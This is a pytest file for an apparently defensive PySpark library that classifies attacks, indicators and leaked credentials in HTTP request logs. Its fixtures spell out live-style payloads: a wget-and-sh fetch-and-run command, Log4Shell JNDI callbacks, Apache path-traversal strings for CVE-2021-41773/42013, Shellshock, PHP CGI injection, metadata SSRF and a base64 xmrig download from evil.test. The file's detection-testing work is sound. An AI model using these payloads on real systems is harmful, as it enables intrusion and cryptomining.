import base64

from pyspark.sql import functions as F

from trafficlens import catalog_payloads
from trafficlens.functions import decode, match
from trafficlens.operators import actors, attacks, contents, credentials, indicators, sessions

SCHEMA = "rid string, path string, raw_path string, raw_query string, headers array<array<string>>, body string, body_encoding string"


def request(rid, query=None, path="/", headers=(), body=None, ctype=None, encoding="utf-8"):
    pairs = [list(h) for h in headers] + ([["Content-Type", ctype]] if ctype else [])
    return (rid, path, path, query, pairs, body, encoding if body is not None else None)


# (query, path, headers, body, content type) -> {(class, location, cve)}
ATTACKS = [
    (dict(query="id=1%20UNION%20SELECT%201"), {("sqli", "query:id", None)}),
    (dict(query="file=../../../../etc/passwd"), {("lfi", "query:file", None)}),
    (dict(query="q=%3Csvg%2Fonload%3Dalert(1)%3E"), {("xss", "query:q", None)}),
    (dict(query="page=http://evil.test/shell.txt?"), {("rfi", "query:page", None)}),
    (dict(query="v=%24%7Bjndi%3Aldap%3A%2F%2Fzz.oast.pro%2Fa%7D"), {("log4shell", "query:v", None)}),
    (dict(query="cd+/tmp;wget+http://x.test/a.sh;sh+a.sh"), {("cmd_injection", "query", None)}),
    (dict(path="/cgi-bin/.%2e/.%2e/.%2e/bin/sh"), {("lfi", "path", "CVE-2021-41773")}),
    (dict(path="/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"), {("lfi", "path", "CVE-2021-42013")}),
    (dict(query="%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"), {("php_code", "query", "CVE-2024-4577")}),
    (dict(headers=[("User-Agent", "() { :; }; /bin/id")]), {("shellshock", "header:User-Agent", None)}),
    (dict(body='{"a": {"b": ["<script>x</script>"]}}', ctype="application/json"), {("xss", "body:a", None)}),
    (dict(body="a=1&b=1' or '1'='1", ctype="application/x-www-form-urlencoded"), {("sqli", "body:b", None)}),
    (dict(body=base64.b64encode(b"\xac\xed\x00\x05sr").decode(), encoding="base64"), {("deserialization", "body", None)}),
    (dict(query="x=%2524%257Bjndi:ldap://h/a%257D"), {("log4shell", "query:x", None)}),
]
BENIGN = [dict(query="q=how+to+select+a+union+rep"), dict(query="redirect=https://example.com/"), dict(path="/docs/../index.html"), dict(path="/.env"), dict(query="q=rm+-rf+explained"), dict(query="name=O'Reilly"), dict(body="() { return 1; };", ctype="text/plain"), dict(query="%"), dict(query="&&=&a")]


def test_labelled_requests(spark):
    rows = [request(f"a{i}", **a) for i, (a, _) in enumerate(ATTACKS)] + [request(f"b{i}", **b) for i, b in enumerate(BENIGN)]
    got = {r.rid: {(a.cls, a.location, a.cve) for a in r.attacks} for r in attacks.attacks_of(spark.createDataFrame(rows, SCHEMA)).collect()}
    assert got == {f"a{i}": want for i, (_, want) in enumerate(ATTACKS)}


def test_evidence_and_decoded(spark):
    df = spark.createDataFrame([request("r", query="id=1%20UNION%20SELECT%201")], SCHEMA)
    (a,) = attacks.attacks_of(df).first().attacks
    assert (a.evidence, a.decoded) == ("1 UNION SELECT 1", True)


def test_tools_and_callbacks(spark):
    rows = [request("t", headers=[("User-Agent", "Mozilla/5.0 zgrab/0.x")]), request("u", body="x bissa_cve_boundary"), request("v", query="a=http%3A%2F%2FZZ.oast.fun%2F"), request("w", query="a=oast.fun is a site")]
    df = spark.createDataFrame(rows, SCHEMA)
    assert {r.rid: [t.name for t in r.tools] for r in attacks.tools_of(df).collect()} == {"t": ["zgrab"], "u": ["bissa"]}
    assert {r.rid: r.oast for r in attacks.oast_domains(df).collect()} == {"v": ["zz.oast.fun"]}


def test_backfill_fills_only_what_is_missing(spark):
    df = spark.createDataFrame([request("r", query="id=1%20UNION%20SELECT%201"), request("s", query="id=1%20UNION%20SELECT%201")], SCHEMA)
    none = {c: F.lit(None).cast(t) for c, t in (("attacks", "array<struct<cls string, location string, evidence string, decoded boolean, sig string, cve string>>"), ("tools", "array<struct<name string, kind string>>"), ("oast", "array<string>"))}
    out = attacks.backfill(df.withColumn("kind", F.lit("request")).withColumns(none), F.col("rid") == "r")
    assert {r.rid: bool(r.attacks) for r in out.collect()} == {"r": True, "s": False}


def test_url_layers(spark):
    texts = ["a%2520b", "100%", "a+b%2B", "%C3%A9", "plain", "%252525%32", ""]
    rows = spark.createDataFrame([(t,) for t in texts], "t string").select(decode.url_layers(F.col("t")).alias("l")).collect()
    assert [r.l for r in rows] == [["a%2520b", "a%20b", "a b"], ["100%"], ["a+b%2B", "a+b+"], ["%C3%A9", "é"], ["plain"], ["%252525%32", "%25252", "%252", "%2"], [""]]


def test_lookups(spark):
    texts = ["${${lower:J}ndi:x}", "${${::-j}${env:NO:-n}di:x}", "${date:'j'}", "no", None, "${env:HOME}x", "a${upper:b${lower:C}}d${::-}", "${lower:a:-B}${x:-y:-z}", "$${::-{}", "${" * 30 + "::-k" + "}" * 30]
    rows = spark.createDataFrame([(t,) for t in texts], "t string").select(decode.deobfuscate(F.col("t")).alias("l")).collect()
    assert [r.l for r in rows] == ["${jndi:x}", "${jndi:x}", "j", "no", None, "${env:HOME}x", "aBCd", "a:-by:-z", "$${::-{}", "${" * 29 + "k" + "}" * 29]


def test_indicators(spark):
    inner = base64.b64encode(b"wget http://evil.test/xmrig -O /tmp/x; chmod +x /tmp/x").decode()
    nested = base64.b64encode(f"run {inner} now please".encode()).decode()
    rows = [
        request("a", query=f"c={inner}"),
        request("b", query=f"c={nested}"),
        request("c", headers=[("User-Agent", "bot http://info.test/me"), ("X", "http://own.test/a http://evil.test/b")]),
        request("d", body="1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5"),
        request("e", query="u=http://169.254.169.254/latest"),
        request("f", query="q=hello", headers=[("User-Agent", "curl/8.14.1")]),
        request("g", path="http://api.test/", query=None),
    ]
    got = {r.rid: r for r in indicators.scan_requests(spark.createDataFrame(rows, SCHEMA), "own.test").collect()}
    assert set(got) == {"a", "b", "c", "d", "e"}
    assert got["a"].urls == ["http://evil.test/xmrig"] and got["a"].miners == ["xmrig"] and got["a"].downloaders == ["wget"] and got["a"].decoded_layers == 1
    assert got["b"].decoded_layers == 2 and got["b"].indicator_locations == ["query"]
    assert got["c"].urls == ["http://evil.test/b"] and got["c"].indicator_locations == ["header:X"]
    assert got["d"].wallets == {"bitcoin": ["1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"]}
    assert got["e"].metadata_ssrf and not got["e"].shellshock


def test_credentials(spark):
    basic = lambda t: ("Authorization", "Basic " + base64.b64encode(t.encode()).decode())
    cases = [
        (dict(headers=[basic("admin:hunter2")]), [("basic", "authorization", "admin", "hunter2")]),
        (dict(headers=[basic("u:a:b")]), [("basic", "authorization", "u", "a:b")]),
        (dict(headers=[("Authorization", "Basic !!!")]), [("basic", "authorization", None, "!!!")]),
        (dict(headers=[("Authorization", "Bearer sk-live-123")]), [("bearer", "authorization", None, "sk-live-123")]),
        (dict(headers=[("X-Api-Key", "k123")]), [("api_key", "header:X-Api-Key", None, "k123")]),
        (dict(body="log=admin&pwd=letmein&wp-submit=Log+In", ctype="application/x-www-form-urlencoded"), [("form", "body", "admin", "letmein")]),
        (dict(body='{"username":"root","password":"toor"}', ctype="application/json"), [("form", "json", "root", "toor")]),
        (dict(query="user=a&pass=b"), [("form", "query", "a", "b")]),
        (dict(body="user=a&x=1", ctype="application/x-www-form-urlencoded"), []),
        (dict(headers=[("Host", "x")]), []),
    ]
    df = spark.createDataFrame([request(str(i), **c) for i, (c, _) in enumerate(cases)], SCHEMA)
    got = [(r.rid, r.scheme, r.source, r.user, r.password) for r in credentials.credentials(df).collect()]
    assert sorted(got, key=str) == sorted([(str(i), *w) for i, (_, want) in enumerate(cases) for w in want], key=str)


def test_web_shapes(spark):
    from trafficlens.functions.webapp import web_shape

    cases = [("/a/../../var/www/.env", None, "path_traversal", 2), ("/x", "f=../../etc/passwd", "path_traversal", 2), ("/x", "id=1+union select 2", "sqli", 1), ("/x.php", "a=php://input", "php_rce_attempt", 2), ("/phpinfo.php", None, "info_disclosure", 1), ("/wp-login.php", None, "cms_probe", 2), ("/", None, "browse", 0)]
    df = spark.createDataFrame([(p, q) for p, q, *_ in cases], "path string, query string")
    rows = df.select(web_shape(F.lit("GET"), F.col("path"), F.col("query"), F.lit(None).cast("string"), F.lit(None).cast("string")).alias("w")).collect()
    assert [(r.w.kind, len(r.w.mitre)) for r in rows] == [(k, n) for *_, k, n in cases]
    assert rows[0].w.mitre == ["T1083", "T1552.001"] and rows[1].w.mitre == ["T1083", "T1006"]


def test_probes(spark):
    cases = {"/api/tags": "ollama", "/api/version": "ollama", "/v1.43/containers/json": "docker", "/.env.local": "dotenv", "/.git/HEAD": "git", "/index.html": None, "/environment": None}
    rows = spark.createDataFrame([(p,) for p in cases], "p string").select("p", match.probe(F.col("p"))["family"].alias("f"), match.probe_scoped(F.col("p"), F.lit("ray"))["family"].alias("ray")).collect()
    assert {r.p: r.f for r in rows} == cases
    assert {r.p: r.ray for r in rows if r.ray} == {"/api/version": "ray"}


def test_findings_written_once(spark, monkeypatch):
    """What is found is written for each distinct content, not for each row of the log; every row still gets it."""
    written, plain = [], contents.materialise
    for module in (contents, catalog_payloads):
        monkeypatch.setattr(module, "materialise", lambda df: written.append(df) or plain(df), raising=False)
    got = catalog_payloads.enriched(spark, "/root/testdata/sf0.001")
    nested = [df.count() for df in written if "attacks" in df.columns]
    assert len(nested) == 1 and nested[0] < got.count() / 2
    asked = catalog_payloads.requests(spark, "/root/testdata/sf0.001")
    want = plain(attacks.attacks_of(asked))
    found = {str(r.event_id): r.attacks for r in got.where("attacks is not null").select("event_id", "attacks").collect()}
    assert found == {r.rid: r.attacks for r in want.collect()} and found
    small = got.orderBy("event_id").drop("seq")
    monkeypatch.setattr(contents, "small", lambda *_: False)
    large = catalog_payloads.enriched(spark, "/root/testdata/sf0.001").orderBy("event_id").drop("seq")
    assert small.columns == large.columns and small.toJSON().collect() == large.toJSON().collect()


def test_no_indicator_is_cut(spark):
    """Whatever number of pairs, URLs, pools, wallets, blobs, fields or characters comes first, what follows is found."""
    blobs = " ".join(base64.b64encode(f"wget http://blob{i:02}.test/x -O /tmp/some-file".encode()).decode() for i in range(8))
    long = "x" * 300_000
    deep = '{"k": ' * 20 + '"<script>x</script>"' + "}" * 20
    rows = [
        request("links", query=" ".join(f"http://u{i:02}.test/a" for i in range(15))),
        request("pools", query=" ".join(f"stratum+tcp://p{i:02}.test:1" for i in range(15))),
        request("coins", body=" ".join(f"0x{i:040x}" for i in range(9))),
        request("blobs", body=blobs),
        request("pieces", query="&".join([*(f"a{i}=1" for i in range(250)), "z=1%20UNION%20SELECT%201"])),
        request("fields", body="{" + ", ".join([*(f'"a{i}": 1' for i in range(250)), '"z": "<script>x</script>"']) + "}", ctype="application/json"),
        request("deep", body=deep, ctype="application/json"),
        request("nested", body="[" * 200_000 + '"<script>x</script>"' + "]" * 200_000, ctype="application/json"),
        request("parts", body="".join(f'--X\r\nContent-Disposition: form-data; name="a{i}"\r\n\r\n{"<script>x</script>" if i == 249 else 1}\r\n' for i in range(250)) + "--X--", ctype="multipart/form-data; boundary=X"),
        request("late", body=f"{long} <script>x</script> bissa_cve_boundary http://zz.oast.pro/a", ctype="text/plain"),
    ]
    asked = spark.createDataFrame(rows, SCHEMA)
    found = contents.materialise(catalog_payloads.findings(asked)).withColumns({"kind": F.lit("request"), "actor": F.lit("A"), "body_sha256": F.lit(None).cast("string")})
    tried = spark.range(130).select(F.lit("credential").alias("kind"), F.lit("A").alias("actor"), F.lit("u").alias("user"), F.concat(F.lit("p"), F.col("id").cast("string")).alias("password"), F.col("id").alias("seq"), F.timestamp_seconds("id").alias("ts"))
    log = found.unionByName(tried, allowMissingColumns=True).withColumn("ip", F.lit(None).cast("string"))
    got = {r.type: r.n for r in actors.indicators(sessions.sessions(log), sessions.credential_pairs(log)).groupBy("type").agg(F.count("*").alias("n")).collect()}
    assert got == {"credential": 130, "url": 15 + 8 + 1, "domain": 15 + 8 + 1, "pool": 15, "wallet": 9, "tool": 1}
    cls = {r.rid: {(a.cls, a.location) for a in r.attacks} for r in found.where("attacks is not null").collect()}
    assert ("sqli", "query:z") in cls["pieces"] and ("xss", "body:z") in cls["fields"] and ("xss", "body:k") in cls["deep"] and ("xss", "body:a249") in cls["parts"]
    assert ("xss", "body") in cls["nested"] and ("xss", "body") in cls["late"]


def test_rows_without_content_are_spread(spark, monkeypatch):
    """Rows in which nothing is looked for don't gather in one task when what is found is too large to be sent."""
    monkeypatch.setattr(contents, "small", lambda *_: False)
    log = spark.range(4_000).select(F.col("id").alias("seq"), F.lit("/").alias("path"), (F.col("id") == 0).alias("asked"))
    spark.conf.set("spark.sql.adaptive.enabled", "false")
    try:
        out = contents.with_found(log, F.col("asked"), lambda c: c.select("rid", F.lit(1).alias("one")))
        dealt = {r["p"]: (r["n"], r["ones"]) for r in out.groupBy(F.spark_partition_id().alias("p")).agg(F.count("*").alias("n"), F.sum("one").alias("ones")).collect()}
    finally:
        spark.conf.unset("spark.sql.adaptive.enabled")
    assert sum(n for n, _ in dealt.values()) == 4_000 and sum(x or 0 for _, x in dealt.values()) == 1
    assert max(n for n, _ in dealt.values()) < 2_000
